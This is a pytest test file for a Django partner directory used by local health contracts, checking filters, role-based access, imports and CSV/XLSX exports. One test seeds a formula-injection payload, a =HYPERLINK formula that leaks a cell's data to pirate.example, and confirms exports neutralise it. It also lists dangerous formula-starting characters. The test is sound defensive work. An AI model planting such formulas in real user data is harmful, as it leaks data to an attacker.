"""The directory pages: filters, forms, what each role sees, constant query counts."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io

import pytest
from django.utils import timezone
from django.utils.formats import date_format
from openpyxl import load_workbook

from actions.models import Signatory
from partners.importing import import_partners
from partners.models import Contact, HandOver, Organization, OrganizationKind, Qpv, Sector
from tests.factories import (
    ContactFactory,
    ContractFactory,
    FicheActionFactory,
    MeetingFactory,
    OrganizationFactory,
    WorkGroupFactory,
)
from tests.support.queries import assert_constant_queries
from workgroups.models import Invitation, Membership

pytestmark = pytest.mark.django_db

BASE = "/t/cergy/annuaire"


def grow(territory, n: int = 10) -> None:
    """Rows for every directory page: structures, people in groups, departures waiting for a
    decision, and people nobody has heard of for four years (the review list)."""
    health = Sector.objects.get(slug="sante")
    contract = ContractFactory(territory=territory)
    group = WorkGroupFactory(contract=contract)
    four_years_ago = timezone.now() - dt.timedelta(days=4 * 365)
    for _ in range(n):
        org = OrganizationFactory(territory=territory)
        org.sectors.add(health)
        contact = ContactFactory(territory=territory, organization=org, phone="01 02 03 04 05")
        Membership.objects.create(group=group, contact=contact)
        group.pilots.add(contact)
        HandOver.objects.create(
            contact=contact, successor_first_name="Léa", successor_email=f"lea{contact.pk}@asso.fr"
        )
        ContactFactory(territory=territory, organization=org, last_activity_at=four_years_ago)


@pytest.mark.parametrize(
    "path",
    ["/structures/", "/contacts/", "/contacts/revue/", "/departs/", "STRUCTURE", "CONTACT"],
)
def test_directory_pages_keep_a_constant_query_count(login_as, coordinator, path):
    territory = coordinator.territory
    grow(territory, 3)
    org = OrganizationFactory(territory=territory)
    contact = ContactFactory(territory=territory, organization=org)
    url = {"STRUCTURE": f"/structures/{org.pk}/", "CONTACT": f"/contacts/{contact.pk}/"}.get(
        path, path
    )

    def more() -> None:
        grow(territory, 12)
        for _ in range(5):
            ContactFactory(territory=territory, organization=org)
            Membership.objects.create(
                group=WorkGroupFactory(contract=ContractFactory(territory=territory)),
                contact=contact,
            )

    client = login_as(coordinator)
    assert_constant_queries(client, BASE + url, more, at_most=16)
    paginator = client.get(BASE + url).context.get("paginator")
    if paginator is not None:
        assert paginator.count >= 15, "the page is measured with rows to show"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=addic", {"Addictions France"}),
        ("q=ADF", {"Addictions France"}),
        ("sector=SANTE", {"Addictions France"}),
        ("kind=city_service", {"CCAS"}),
        ("internal=oui", {"CCAS"}),
        ("internal=non", {"Addictions France", "Préfecture"}),
        ("signatory=oui", {"Préfecture"}),
        ("qpv=QPV", {"CCAS"}),
        ("archived=oui", {"Ancienne association"}),
    ],
)
def test_each_structure_filter_narrows_the_list(login_as, coordinator, query, expected):
    territory = coordinator.territory
    qpv = Qpv.objects.create(territory=territory, name="Sébille")
    OrganizationFactory(
        territory=territory,
        name="CCAS",
        kind=OrganizationKind.CITY_SERVICE,
        is_internal=True,
        qpv=qpv,
    )
    adf = OrganizationFactory(territory=territory, name="Addictions France", acronym="ADF")
    adf.sectors.add(Sector.objects.get(slug="sante"))
    prefecture = OrganizationFactory(territory=territory, name="Préfecture")
    Signatory.objects.create(contract=ContractFactory(territory=territory), organization=prefecture)
    OrganizationFactory(
        territory=territory, name="Ancienne association", archived_at=timezone.now()
    )
    query = query.replace("SANTE", str(Sector.objects.get(slug="sante").pk)).replace(
        "QPV", str(qpv.pk)
    )
    response = login_as(coordinator).get(f"{BASE}/structures/?{query}")
    names = {o.name for o in response.context["organizations"]}
    if "archived" not in query:
        names.discard("Ancienne association")
    assert names == expected
    page = response.content.decode()
    for name in expected:
        assert f">{name}</a>" in page, f"« {name} » is not listed for {query}"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("q=dupont", {"Dupont"}),
        ("q=ccas.fr", {"Dupont"}),
        ("active=non", {"Parti"}),
        ("bounced=oui", {"Erreur"}),
        ("unsubscribed=oui", {"Desinscrit"}),
        ("internal=oui", {"Dupont"}),
        ("group=GROUP", {"Membre"}),
    ],
)
def test_each_contact_filter_narrows_the_list(login_as, coordinator, query, expected):
    territory = coordinator.territory
    ccas = OrganizationFactory(territory=territory, name="CCAS", is_internal=True)
    ContactFactory(
        territory=territory, last_name="Dupont", email="m.dupont@ccas.fr", organization=ccas
    )
    ContactFactory(
        territory=territory, last_name="Parti", left_at=timezone.localdate(), is_active=False
    )
    ContactFactory(territory=territory, last_name="Erreur", bounced_at=timezone.now())
    ContactFactory(territory=territory, last_name="Desinscrit", unsubscribed_at=timezone.now())
    member = ContactFactory(territory=territory, last_name="Membre")
    group = WorkGroupFactory(contract=ContractFactory(territory=territory))
    Membership.objects.create(group=group, contact=member)
    response = login_as(coordinator).get(
        f"{BASE}/contacts/?{query.replace('GROUP', str(group.pk))}"
    )
    assert {c.last_name for c in response.context["contacts"]} == expected


def test_lists_paginate_and_say_how_many(login_as, coordinator):
    client = login_as(coordinator)
    assert "Aucun contact</p>" in client.get(f"{BASE}/contacts/").content.decode()
    assert "Aucune structure</p>" in client.get(f"{BASE}/structures/").content.decode()
    ContactFactory(territory=coordinator.territory)
    assert "1 contact</p>" in client.get(f"{BASE}/contacts/").content.decode()
    for _ in range(54):
        ContactFactory(territory=coordinator.territory)
    first = client.get(f"{BASE}/contacts/").content.decode()
    assert "55 contacts" in first
    assert "Page 1 sur 2" in first
    assert len(client.get(f"{BASE}/contacts/?page=2").context["contacts"]) == 5


def test_viewer_never_sees_addresses_or_phones(login_as, viewer):
    contact = ContactFactory(
        territory=viewer.territory,
        email="secret@asso.fr",
        phone="06 11 22 33 44",
        last_name="Visible",
    )
    client = login_as(viewer)
    # A signatory reads structures, not people: the pages about people are refused...
    for url in (
        f"{BASE}/contacts/",
        f"{BASE}/contacts/{contact.pk}/",
        f"{BASE}/contacts/?q=secret",
    ):
        assert client.get(url).status_code == 403, url
    # ...and the structure's page counts its people without naming them.
    page = client.get(f"{BASE}/structures/{contact.organization.pk}/").content.decode()
    assert "Visible" not in page
    assert "secret@asso.fr" not in page
    assert "06 11 22 33 44" not in page
    for forbidden in (
        "/export.csv",
        "/export.xlsx",
        f"/contacts/{contact.pk}/donnees/",
        "/import/",
    ):
        assert client.get(BASE + forbidden).status_code == 403


def test_copilot_reads_the_directory_but_does_not_change_it(login_as, copilot):
    contact = ContactFactory(territory=copilot.territory)
    client = login_as(copilot)
    assert client.get(f"{BASE}/contacts/").status_code == 200
    assert client.get(f"{BASE}/contacts/nouveau/").status_code == 403
    assert (
        client.post(f"{BASE}/contacts/{contact.pk}/modifier/", {"last_name": "X"}).status_code
        == 403
    )
    assert client.get(f"{BASE}/export.csv").status_code == 403


def test_creating_a_contact_with_a_known_address_offers_the_existing_one(login_as, coordinator):
    existing = ContactFactory(
        territory=coordinator.territory,
        email="anne.roux@ville.fr",
        first_name="Anne",
        last_name="Roux",
    )
    response = login_as(coordinator).post(
        f"{BASE}/contacts/nouveau/",
        {
            "first_name": "Anne",
            "last_name": "Roux",
            "email": "  Anne.Roux@Ville.fr ",
            "receives_invitations": "on",
        },
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "déjà celle de Anne Roux" in page
    assert f"/contacts/{existing.pk}/" in page
    assert 'value="Anne"' in page, "what was typed is kept"
    assert Contact.objects.count() == 1


def test_creating_a_contact_and_a_structure(login_as, coordinator):
    client = login_as(coordinator)
    response = client.post(
        f"{BASE}/structures/nouvelle/",
        {
            "name": "  Maison   de quartier des Touleuses ",
            "kind": "city_service",
            "is_internal": "on",
            "website": "mq-touleuses.fr",
        },
    )
    org = Organization.objects.get()
    assert response["Location"] == f"{BASE}/structures/{org.pk}/"
    assert org.name == "Maison de quartier des Touleuses"
    assert org.website == "https://mq-touleuses.fr"
    again = client.post(
        f"{BASE}/structures/nouvelle/",
        {"name": "maison de quartier des touleuses", "kind": "other"},
    )
    assert "déjà ce nom" in again.content.decode()

    response = client.post(
        f"{BASE}/contacts/nouveau/",
        {
            "first_name": "Hugo",
            "last_name": "Lambert",
            "email": "Hugo@MQ.fr",
            "organization_id": org.pk,
            "receives_reports": "on",
        },
    )
    contact = Contact.objects.get()
    assert contact.email == "hugo@mq.fr"
    assert contact.territory == coordinator.territory
    assert contact.last_activity_at is not None
    assert "Hugo Lambert" in client.get(response["Location"]).content.decode()


def test_a_contact_without_any_name_is_refused_in_french(login_as, coordinator):
    response = login_as(coordinator).post(f"{BASE}/contacts/nouveau/", {"email": "x@y.fr"})
    assert "Indiquez au moins le nom ou le prénom." in response.content.decode()


def test_structure_page_shows_people_groups_and_actions(login_as, coordinator):
    territory = coordinator.territory
    org = OrganizationFactory(territory=territory, name="CPTS de Cergy")
    current = ContactFactory(territory=territory, organization=org, last_name="Présente")
    ContactFactory(
        territory=territory,
        organization=org,
        last_name="Partie",
        left_at=timezone.localdate(),
        is_active=False,
        successor=current,
    )
    group = WorkGroupFactory(contract=ContractFactory(territory=territory), name="GT Santé mentale")
    Membership.objects.create(group=group, contact=current)
    page = login_as(coordinator).get(f"{BASE}/structures/{org.pk}/").content.decode()
    assert "Présente" in page and "Partie" in page
    assert page.index("Présente") < page.index("Anciens contacts") < page.index("Partie")
    assert "GT Santé mentale" in page
    left = date_format(timezone.localdate(), "F Y")
    former_line = page[page.index("Anciens contacts") :]
    assert f"a quitté la structure en {left} · successeur :" in html.unescape(former_line)


def test_export_has_the_import_columns_and_reimports_identically(
    login_as, coordinator, other_territory
):
    territory = coordinator.territory
    org = OrganizationFactory(territory=territory, name="CCAS")
    org.sectors.add(Sector.objects.get(slug="social"))
    ContactFactory(
        territory=territory,
        organization=org,
        first_name="Zoé",
        last_name="Faure",
        email="zoe@ccas.fr",
        phone="01 02 03 04 05",
        job_title="Directrice",
    )
    ContactFactory(territory=other_territory, email="ailleurs@vitry.fr")
    client = login_as(coordinator)

    response = client.get(f"{BASE}/export.csv")
    assert response["Content-Disposition"].startswith('attachment; filename="annuaire-cergy-')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:7] == [
        "Nom",
        "Prénom",
        "Structure",
        "Fonction",
        "Courriel",
        "Téléphone",
        "Secteur",
    ]
    assert rows[1][:7] == [
        "Faure",
        "Zoé",
        "CCAS",
        "Directrice",
        "zoe@ccas.fr",
        "01 02 03 04 05",
        "Social",
    ]
    assert len(rows) == 2, "nothing of another territory"

    sheet = load_workbook(io.BytesIO(client.get(f"{BASE}/export.xlsx").content)).active
    assert [c.value for c in sheet[2]][:5] == ["Faure", "Zoé", "CCAS", "Directrice", "zoe@ccas.fr"]

    report = import_partners(territory=territory, content=response.content, file_name="export.csv")
    assert report.summary["unchanged"] == 1 and report.summary["rejected"] == 0


def test_web_import_previews_then_confirms(login_as, coordinator):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = login_as(coordinator)
    upload = SimpleUploadedFile(
        "annuaire.csv",
        "Nom;Prénom;Courriel\nRoux;Anne;anne@asso.fr\n;;\nX;Y;pas-une-adresse\n".encode(),
    )
    response = client.post(f"{BASE}/import/", {"file": upload})
    preview_url = response["Location"]
    page = client.get(preview_url).content.decode()
    assert "Aperçu de l'import" in page
    assert "adresse e-mail invalide" in page
    assert not Contact.objects.exists(), "nothing is written before confirmation"

    client.post(preview_url)
    assert Contact.objects.get().email == "anne@asso.fr"
    page = client.get(preview_url).content.decode()
    assert "Import enregistré" in page
    client.post(preview_url)  # a second confirmation imports nothing more
    assert Contact.objects.count() == 1


def test_web_import_refuses_unreadable_files_in_french(login_as, coordinator):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = login_as(coordinator)
    response = client.post(f"{BASE}/import/", {"file": SimpleUploadedFile("photo.png", b"\x89PNG")})
    assert "Déposez un fichier .csv ou .xlsx" in response.content.decode()
    response = client.post(
        f"{BASE}/import/", {"file": SimpleUploadedFile("a.csv", b"Nom;Structure\nA;B\n")}
    )
    assert "Aucune colonne d&#x27;adresses e-mail" in response.content.decode()


def test_structure_and_contact_pages_show_the_meetings_attended(login_as, coordinator):
    territory = coordinator.territory
    org = OrganizationFactory(territory=territory, name="CMP adultes")
    person = ContactFactory(territory=territory, organization=org, last_name="Venue")
    group = WorkGroupFactory(contract=ContractFactory(territory=territory), name="GT Santé mentale")
    meeting = MeetingFactory(group=group)
    Invitation.objects.create(meeting=meeting, contact=person, rsvp="yes", attendance="present")
    client = login_as(coordinator)
    page = client.get(f"{BASE}/structures/{org.pk}/").content.decode()
    assert f"/reunions/{meeting.pk}/" in page and "1 personne" in page
    page = client.get(f"{BASE}/contacts/{person.pk}/").content.decode()
    assert "GT Santé mentale" in page and "Présent·e" in page


def test_structure_page_shows_the_actions_it_is_a_partner_of(login_as, coordinator, viewer):
    from actions.models import ActionPartner, CollaborationLevel, ContractStatus

    territory = coordinator.territory
    org = OrganizationFactory(territory=territory, name="Mission locale")
    level = CollaborationLevel.objects.order_by("rank").last()
    fiche = FicheActionFactory(
        contract=ContractFactory(territory=territory), title="Parcours santé des jeunes"
    )
    ActionPartner.objects.create(
        fiche=fiche, organization=org, role="Repérage des jeunes", level=level
    )
    draft = FicheActionFactory(
        contract=ContractFactory(territory=territory, status=ContractStatus.DRAFT),
        title="Action en préparation",
    )
    ActionPartner.objects.create(fiche=draft, organization=org, role="À définir")
    page = login_as(coordinator).get(f"{BASE}/structures/{org.pk}/").content.decode()
    assert "Parcours santé des jeunes" in page
    assert "Repérage des jeunes" in page and level.label in page
    assert "ne pilote ni ne co-pilote" not in page
    assert "Action en préparation" in page
    page = login_as(viewer).get(f"{BASE}/structures/{org.pk}/").content.decode()
    assert "Parcours santé des jeunes" in page
    assert "Action en préparation" not in page, "a viewer reads signed contracts only"


def test_structure_page_tells_pilots_from_copilots(login_as, coordinator):
    territory = coordinator.territory
    org = OrganizationFactory(territory=territory, name="CMP adultes")
    contract = ContractFactory(territory=territory)
    FicheActionFactory(contract=contract, title="Premiers secours", pilot_organization=org)
    copiloted = FicheActionFactory(contract=contract, title="Habitat et santé")
    copiloted.copilots.add(ContactFactory(territory=territory, organization=org))
    page = login_as(coordinator).get(f"{BASE}/structures/{org.pk}/").content.decode()
    assert "Premiers secours</a> · pilote" in page
    assert "Habitat et santé</a> · co-pilote" in page


def test_structures_filter_by_the_groups_their_people_take_part_in(login_as, coordinator):
    territory = coordinator.territory
    contract = ContractFactory(territory=territory)
    mental = WorkGroupFactory(contract=contract, name="GT Santé mentale")
    member = ContactFactory(territory=territory, organization__name="CMP adultes")
    pilot = ContactFactory(territory=territory, organization__name="UNAFAM")
    ContactFactory(territory=territory, organization__name="Club de boxe")
    Membership.objects.create(group=mental, contact=member)
    Membership.objects.create(
        group=mental, contact=ContactFactory(territory=territory, organization=member.organization)
    )
    mental.pilots.add(pilot)
    response = login_as(coordinator).get(f"{BASE}/structures/?group={mental.pk}")
    orgs = list(response.context["organizations"])
    assert {o.name for o in orgs} == {"CMP adultes", "UNAFAM"}
    assert {o.name: o.contact_count for o in orgs}["CMP adultes"] == 2, "counts stay right"
    assert "GT Santé mentale" in response.content.decode(), "the filter offers the group"


def test_exports_never_carry_a_live_formula(login_as, coordinator):
    """A partner types their job title through their link: it must stay text in Excel."""
    ContactFactory(
        territory=coordinator.territory,
        last_name="Faure",
        job_title='=HYPERLINK("http://pirate.example/?"&A2;"Cliquez")',
        phone="+33 1 23 45 67 89",
    )
    client = login_as(coordinator)
    text = client.get(f"{BASE}/export.csv").content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[3].startswith("'=HYPERLINK")
    assert row[5] == "'+33 1 23 45 67 89"
    sheet = load_workbook(io.BytesIO(client.get(f"{BASE}/export.xlsx").content)).active
    title = sheet.cell(row=2, column=4)
    assert title.data_type == "s" and title.value.startswith("=HYPERLINK")
    assert title.quotePrefix
    # ...and the export still re-imports as it was typed.
    report = import_partners(
        territory=coordinator.territory, content=text.encode(), file_name="export.csv"
    )
    assert report.summary["unchanged"] == 1


def test_the_export_knows_two_formats_only(login_as, coordinator):
    client = login_as(coordinator)
    assert client.get(f"{BASE}/export.csv").status_code == 200
    assert client.get(f"{BASE}/export.xlsx").status_code == 200
    for other in ("pdf", "json", "csv.exe", "x"):
        assert client.get(f"{BASE}/export.{other}").status_code == 404


def test_spreadsheets_neutralise_every_formula_start():
    from cls_platform.spreadsheets import csv_bytes, xlsx_bytes

    dangerous = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]
    rows = [["Titre", "Nombre"], *[[value, 3] for value in dangerous], ["Directrice", -4]]
    text = csv_bytes(rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r[0] for r in read[1:-1]] == ["'" + value for value in dangerous]
    assert read[-1] == ["Directrice", "-4"], "numbers and plain texts are untouched"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title="Test"))).active
    cells = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(dangerous))]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == dangerous
    assert sheet.cell(row=len(rows), column=2).value == -4


def test_the_demo_puts_structures_in_its_qpvs(login_as, coordinator):
    from demo.cergy.directory import DIRECTORY
    from demo.directory import seed_directory

    territory = coordinator.territory
    seed_directory(territory, DIRECTORY)
    seed_directory(territory, DIRECTORY)  # twice changes nothing
    for qpv in Qpv.objects.filter(territory=territory):
        names = {
            o.name
            for o in login_as(coordinator)
            .get(f"{BASE}/structures/?qpv={qpv.pk}")
            .context["organizations"]
        }
        assert names, f"the QPV filter shows structures of {qpv.name}"
    assert "Maison de quartier Axe Majeur-Horloge" in {
        o.name for o in Organization.objects.filter(qpv__name="Axe Majeur-Horloge")
    }
